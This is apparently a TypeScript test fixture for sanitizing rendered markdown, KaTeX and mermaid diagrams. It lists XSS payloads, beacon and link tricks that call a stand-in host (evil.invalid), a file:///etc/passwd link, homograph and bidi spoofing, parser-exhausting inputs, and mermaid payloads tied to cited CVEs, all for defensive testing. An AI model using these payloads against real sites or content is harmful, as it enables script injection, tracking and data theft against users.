/** Texts that were made to do harm where markdown is drawn carelessly. What any of them would do is set `window.harmed`. */
const act = "window.harmed=1";
/** Where nothing may ever be asked for. */
const away = "https://evil.invalid";

const html = [
  `<script>${act}</script>`,
  `<ScRiPt src="${away}/x.js"></sCrIpT>`,
  `<img src=x onerror="${act}">`,
  `<img src="${away}/pixel.png">`,
  `<svg onload="${act}"><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object><embed src="${away}/x.swf">`,
  `<style>*{background:url(${away}/css)}</style>`,
  `<style>@import "${away}/x.css";</style>`,
  `<p style="background:url(${away}/style)">styled</p>`,
  `<link rel="stylesheet" href="${away}/l.css">`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<form action="${away}"><input name=q autofocus onfocus="${act}"><button>Go</button></form>`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<video><source onerror="${act}"></video><audio src=x onerror="${act}">`,
  `<a href="javascript:${act}">x</a>`,
  `<!-- --><script>${act}</script><!-- -->`,
  `<![CDATA[><script>${act}</script>]]>`,
  `<?xml-stylesheet href="javascript:${act}"?>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<template><script>${act}</script></template><x-y onclick="${act}">`,
];

const addresses = [
  `[x](javascript:${act})`,
  `[x](JaVaScRiPt:${act})`,
  `[x](java&#x0A;script:${act})`,
  `[x](&#106;avascript:${act})`,
  `[x](\u0001javascript:${act})`,
  `[x](data:text/html,<script>${act}</script>)`,
  `[x](vbscript:msgbox)`,
  `[x](blob:${away}/1) [y](file:///etc/passwd) [z](intent://x#Intent;end)`,
  `<javascript:${act}>`,
  `![x](javascript:${act})`,
  `![x](data:image/svg+xml,<svg onload=${act}>)`,
  `![x](${away}/pixel.png?q=secret)`,
  `[![x](${away}/inner.png)](${away})`,
  `![x][p]\n\n[p]: ${away}/reference.png`,
  `[x][j]\n\n[j]: javascript:${act}`,
  `x[^1]\n\n[^1]: [y](javascript:${act}) ![z](${away}/note.png)`,
  `x[^"><img src=x onerror=${act}>]\n\n[^"><img src=x onerror=${act}>]: y`,
  `[x](<" onclick="${act}>)`,
  `[x](/c "\\" onmouseover=\\"${act}")`,
  `[x](//evil.invalid/no-scheme) [y](/\\evil.invalid) [z](\\\\evil.invalid)`,
  `[\u202egpj.exe](${away}) [ex\u0430mple.org](https://ex\u0430mple.org) \u2066\u2067x\u2069`,
  `| [x](javascript:${act}) | ![y](${away}/cell.png) |\n|---|---|\n| <img src=x onerror=${act}> | $\\href{javascript:${act}}{x}$ |`,
];

const formulas = [
  `$\\href{javascript:${act}}{x}$ $\\url{javascript:${act}}$`,
  `$\\includegraphics{${away}/katex.png}$`,
  `$\\htmlData{x=1}{y} \\htmlClass{fixed}{y} \\htmlId{message}{y} \\htmlStyle{background:url(${away})}{y}$`,
  `$\\unicode{<img src=x onerror=${act}>}$ $\\text{<script>${act}</script>}$`,
  `$\\color{red;background:url(${away})}{x}$`,
  "$$\n\\def\\a{\\a\\a}\\a\n$$",
  "$$\n\\rule{100000em}{100000em}\n$$",
  `$$\n${"{".repeat(4_000)}\n$$`,
  `$$\n${"\\sqrt{".repeat(800)}x${"}".repeat(800)}\n$$`,
  "$a$ ".repeat(450),
];

const code = [
  `\`\`\`js"><img src=x onerror=${act}>\nx\n\`\`\``,
  `\`\`\`html\n<script>${act}</script><img src="${away}/code.png">\n\`\`\``,
  `\`<img src=x onerror=${act}>\``,
];

const tangled = [
  ">".repeat(5_000),
  `${"- ".repeat(2_000)}x`,
  Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  "**a *b".repeat(20_000),
  "[".repeat(30_000),
  "[x](".repeat(10_000),
  `|${"x|".repeat(400)}\n|${"-|".repeat(400)}\n${`|${"y|".repeat(400)}\n`.repeat(5)}`,
  "x".repeat(50_000),
];

export const hostileMarkdown: Readonly<Record<string, readonly string[]>> = {
  HTML: html,
  addresses: addresses,
  formulas: formulas,
  code: code,
  "what never ends": tangled,
};

/** What mermaid was once talked into (CVE-2025-54880, -54881, CVE-2026-41148 and older ones); each is asked to be drawn. */
export const hostileDiagrams: readonly string[] = [
  `graph TD\n  A["<img src=x onerror=${act}>"] --> B`,
  `graph TD\n  A --> B\n  click A href "javascript:${act}"\n  click B call harm()`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "*{background:url(${away}/css)}"}}%%\ngraph TD\n  A["<iframe srcdoc='<script>top.harmed=1</script>'></iframe>"] --> B`,
  `architecture-beta\n  group api(<img src=x onerror=${act}>)[API]\n  service db(database)[<script>${act}</script>] in api`,
  `sequenceDiagram\n  participant A as $$\\text{<img src=x onerror=${act}>}$$\n  A->>A: <img src=x onerror=${act}>`,
  `classDiagram\n  class A["<svg onload=${act}>"]\n  link A "${away}" "x"`,
  `graph TD\n  A@{ img: "${away}/node.png", label: "x" }\n  style A fill:url(${away}/fill)`,
  `---\nconfig:\n  themeVariables:\n    primaryColor: "red}*{background:url(${away}/var)}"\n---\ngraph TD\n  A --> B`,
];
